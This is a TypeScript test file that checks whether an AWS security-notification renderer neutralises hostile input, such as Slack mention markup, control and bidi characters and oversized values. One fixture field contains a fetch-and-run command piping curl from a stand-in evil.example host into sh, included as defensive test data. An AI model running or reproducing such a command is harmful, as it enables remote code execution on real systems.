/** renderNotification under hostile input: markup, controls, bidi, huge values, every kind. */
import type { RuntimeFinding } from '../../lambdas/core/finding';
import type { ExposedTask } from '../../lambdas/core/outcome';
import { type NotificationInput, type NotificationKind, renderNotification } from '../../lambdas/core/render';
import type { VulnerabilityFinding } from '../../lambdas/core/vulnerability';
import {
  ACCOUNT,
  ALL_KINDS,
  allStrings,
  CLUSTER_ARN,
  containedResults,
  EXECUTION_ARN,
  enrichment,
  expectPublishable,
  exposedTask,
  FINDING_ID,
  plan,
  runtimeFinding,
  runtimeInput,
  TASK_ARN,
  vulnerabilityFinding,
} from '../helpers/notification';

// ---------------------------------------------------------------------------------------------------------
// Hostile input.

const HOSTILE_MARKUP =
  '<!channel> <!here> <!everyone> <@U12345> <https://evil.example|click> *bold* _it_ ~s~ `x`';
const CONTROLS = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('');
const HOSTILE = `${HOSTILE_MARKUP}${CONTROLS}\u202Egnp.exe\u2066日本語 🔥 👨\u200D👩\u200D👧`;
const HUGE = `${HOSTILE}${'A'.repeat(100 * 1024)}`;

function hostileRuntimeFinding(): RuntimeFinding {
  const base = runtimeFinding();
  return runtimeFinding({
    incidentId: `${FINDING_ID}<!channel>`,
    type: `Execution:Runtime/${HOSTILE}`,
    title: HUGE,
    description: HUGE,
    cluster: { name: HOSTILE, arn: `${CLUSTER_ARN}<!here>`, tags: { [HOSTILE]: HOSTILE } },
    task: {
      arn: `${TASK_ARN}<@U1>`,
      id: HOSTILE,
      serviceName: HOSTILE,
      tags: { '<@U12345>': '<!everyone>' },
    },
    containers: [
      {
        name: HOSTILE,
        image: {
          ...(base.containers[0]?.image ?? { registry: 'r', repository: 'r' }),
          uri: HUGE,
          repository: HOSTILE,
        },
      },
    ],
    process: {
      name: HOSTILE,
      executablePath: `/tmp/${HUGE}`,
      commandLine: `curl <https://evil.example|click> | sh; ${HUGE}`,
      pid: HOSTILE,
      user: HOSTILE,
      executableSha256: HOSTILE,
      parent: { name: HOSTILE, executablePath: HUGE, pid: HOSTILE },
    },
  });
}

function hostileInput(kind: NotificationKind): NotificationInput {
  const manyTasks = Array.from(
    { length: 1000 },
    (_, i): ExposedTask => ({
      taskArn: `${TASK_ARN}${i}<!here>`,
      clusterArn: `${CLUSTER_ARN}/${HOSTILE}`,
      serviceName: HUGE,
      image: HUGE,
    }),
  );
  const hostilePlan = plan({
    incidentId: HOSTILE,
    reasons: Array.from({ length: 50 }, () => HUGE),
    skipped: Array.from({ length: 100 }, () => ({ action: 'stop' as const, reason: HUGE })),
    recommendations: [HUGE],
    wouldHaveDone: ['isolate', 'stop'],
  });
  const finding: RuntimeFinding | VulnerabilityFinding =
    kind.startsWith('vulnerability') || kind === 'image-quarantined'
      ? vulnerabilityFinding({
          incidentId: HOSTILE,
          title: HUGE,
          description: HUGE,
          vulnerabilityId: HOSTILE,
          sourceUrl: `https://evil.example/<!channel>|click`,
          packages: Array.from({ length: 200 }, () => ({
            name: HOSTILE,
            version: HUGE,
            fixedInVersion: HOSTILE,
          })),
          image: {
            registryId: ACCOUNT,
            repository: HOSTILE,
            digest: HUGE,
            tags: Array.from({ length: 50 }, () => HOSTILE),
          },
        })
      : hostileRuntimeFinding();
  return {
    kind,
    ...(kind === 'invalid-input' ? {} : { finding }),
    enrichment: {
      ...enrichment,
      lastStatus: HOSTILE,
      eniId: HOSTILE,
      service: { name: HOSTILE, runningCount: 1, desiredCount: 1, tags: {} },
    },
    plan: hostilePlan,
    results: {
      stop: { status: 'done', taskArn: HUGE, lastStatus: HOSTILE, reason: HUGE },
      isolate: {
        status: 'failed',
        method: 'security-group-rules-revoked',
        reason: HUGE,
        securityGroupIds: [HOSTILE],
      },
      quarantine: {
        status: 'done',
        images: Array.from({ length: 100 }, () => ({
          repository: HOSTILE,
          registryId: ACCOUNT,
          digest: HOSTILE,
          status: 'done' as const,
          movedTags: Array.from({ length: 30 }, () => ({ from: HOSTILE, to: HOSTILE })),
          archived: true,
          reason: HUGE,
        })),
      },
      tagService: { status: 'skipped', reason: HUGE },
      blastRadius: { tasks: manyTasks, scannedTasks: 5000, truncated: true },
    },
    repeat: { count: 3, previousCount: 1, status: HOSTILE, firstSeen: HOSTILE },
    aggregated: {
      findingArns: Array.from({ length: 500 }, () => HOSTILE),
      vulnerabilityIds: Array.from({ length: 500 }, () => HOSTILE),
    },
    exposure: { tasks: manyTasks, scannedTasks: 5000, truncated: true },
    failure: {
      state: HOSTILE,
      error: HOSTILE,
      cause: JSON.stringify({ errorType: HOSTILE, errorMessage: HUGE }),
    },
    rawEventSummary: { source: HOSTILE, detailType: HOSTILE, id: HOSTILE },
    execution: { arn: `${EXECUTION_ARN}<!channel>`, name: HOSTILE },
    evidence: { bucket: HOSTILE, key: HUGE },
    region: HOSTILE,
    accountId: HOSTILE,
  };
}

describe('renderNotification: hostile input', () => {
  it.each(ALL_KINDS)('%s: no live markup, nothing thrown, within every limit', (kind) => {
    // Act
    const rendered = renderNotification(hostileInput(kind));

    // Assert
    expectPublishable(rendered);
    const strings = allStrings(rendered.chat).join('\n');
    const { title, description, nextSteps, keywords } = rendered.chat.content;
    const shown = [title, description, ...nextSteps, ...keywords, rendered.chat.metadata.summary].join('\n');
    expect(shown).not.toContain('*bold*');
    expect(shown).not.toContain('_it_');
    expect(shown).not.toContain('~s~');
    expect(strings).not.toContain('\u202E');
    // Control characters other than the line breaks we put in, and bidi overrides and isolates.
    expect(strings.replace(/\n/g, ' ')).not.toMatch(/\p{Cc}|[\u202A-\u202E\u2066-\u2069]/u);
    expect(rendered.email.replace(/\n/g, ' ')).not.toMatch(/\p{Cc}|[\u202A-\u202E\u2066-\u2069]/u);
  });

  it('caps long lists with "and N more"', () => {
    // Arrange
    const input = runtimeInput('contained', {
      plan: plan({
        skipped: Array.from({ length: 100 }, (_, i) => ({ action: 'stop' as const, reason: `reason ${i}` })),
      }),
      results: {
        ...containedResults,
        blastRadius: {
          tasks: Array.from({ length: 1000 }, (_, i) => exposedTask(i)),
          scannedTasks: 1000,
          truncated: true,
        },
      },
    });

    // Act
    const rendered = renderNotification(input);

    // Assert
    expectPublishable(rendered);
    for (const text of [rendered.chat.content.description, rendered.email]) {
      expect(text).toContain('and 975 more');
      expect(text).toContain('and 75 more');
      expect(text).toContain('there may be more');
    }
  });

  it('keeps the next steps in the email even when the body is cut', () => {
    // Act
    const rendered = renderNotification(hostileInput('contained'));

    // Assert
    expect(rendered.email).toContain('left out');
    expect(rendered.email).toContain('NEXT STEPS');
    expect(rendered.email).toContain('shield-right release');
  });

  it('keeps emoji and non-Latin text readable', () => {
    // Act
    const rendered = renderNotification(hostileInput('contained'));

    // Assert
    expect(rendered.chat.content.description).toContain('日本語 🔥 👨\u200D👩\u200D👧');
    expect(rendered.email).toContain('日本語 🔥');
  });

  it('drops related resources that are not clean ARNs and sanitizes the thread id', () => {
    // Act
    const rendered = renderNotification(hostileInput('contained'));

    // Assert
    for (const arn of rendered.chat.metadata.relatedResources)
      expect(arn).toMatch(/^arn:aws[a-z-]*:[\x21-\x7E]+$/);
    expect(rendered.chat.metadata.threadId).toMatch(/^[A-Za-z0-9_.:/@=+…-]+$/);
  });

  it('keeps hostile values out of console link structure', () => {
    // Act
    const rendered = renderNotification(hostileInput('step-failed'));
    const urls = rendered.chat.content.nextSteps.join(' ').match(/https:\/\/\S+/g) ?? [];

    // Assert
    expect(urls.length).toBeGreaterThan(0);
    for (const u of urls) {
      expect(u).not.toMatch(/[<>|`*\s]/);
      expect(
        u.startsWith('https://us-east-1.console.aws.amazon.com/') ||
          u.startsWith('https://s3.console.aws.amazon.com/'),
      ).toBe(true);
    }
  });

  it('renders a hostile command that cannot be shown verbatim as escaped code', () => {
    // Act
    const rendered = renderNotification(hostileInput('step-failed'));

    // Assert: the redrive command still appears, but neutralized.
    const redrive = rendered.chat.content.nextSteps.find((s) => s.includes('redrive'));
    expect(redrive).toBeDefined();
    expect(redrive).toContain('&lt;!channel&gt;');
  });

  it('a 100 KB email is shortened so the whole message fits', () => {
    // Arrange: one field per list entry at its full limit, in a 3-byte script.
    const wide = '語'.repeat(5000);
    const input: NotificationInput = {
      ...runtimeInput('contained'),
      plan: plan({ skipped: Array.from({ length: 25 }, () => ({ action: 'stop' as const, reason: wide })) }),
      results: {
        ...containedResults,
        blastRadius: {
          tasks: Array.from({ length: 25 }, (_, i) => ({
            ...exposedTask(i),
            serviceName: wide,
            image: wide,
          })),
          scannedTasks: 25,
          truncated: false,
        },
      },
    };

    // Act
    const rendered = renderNotification(input);

    // Assert
    expectPublishable(rendered);
  });
});
